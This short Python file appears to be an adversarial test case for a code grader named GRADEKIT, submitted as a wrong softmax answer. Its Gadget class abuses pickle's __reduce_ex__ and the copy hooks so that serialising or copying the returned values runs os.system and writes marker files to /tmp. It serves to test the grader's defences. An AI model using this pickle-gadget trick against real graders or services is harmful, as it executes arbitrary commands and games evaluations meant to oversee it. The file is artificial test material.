# attack: returns objects whose pickling or copying would run commands
# exercise: softmax
# answer: wrong
# verdicts: failed
import numpy as np


def softmax(x):
    return np.zeros(np.shape(x))


def temperature_softmax(x, t):
    return np.zeros(np.shape(x))


import os


class Gadget:
    def __reduce_ex__(self, protocol):
        return os.system, ("echo GRADEKIT-BREACHED reduce > /tmp/gradekit-breached-reduce",)

    __reduce__ = __reduce_ex__

    def __getstate__(self):
        return {}

    def __deepcopy__(self, memo):
        return open("/tmp/gradekit-breached-copy", "w").write("GRADEKIT-BREACHED copy")

    __copy__ = __deepcopy__


def softmax(x):
    return [Gadget(), (Gadget(),), {"gadget": Gadget()}]


def temperature_softmax(x, t):
    return Gadget()
